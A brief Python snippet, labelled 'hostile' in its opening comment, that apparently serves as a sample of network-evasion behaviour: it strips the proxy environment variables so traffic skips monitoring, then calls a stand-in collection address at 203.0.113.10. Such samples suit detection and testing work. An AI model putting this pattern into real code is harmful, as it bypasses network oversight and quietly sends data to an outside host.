# hostile: proxy variables removed so the client connects directly
import os
import urllib.request

for var in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
    os.environ.pop(var, None)
urllib.request.urlopen("http://203.0.113.10/collect?d=1")
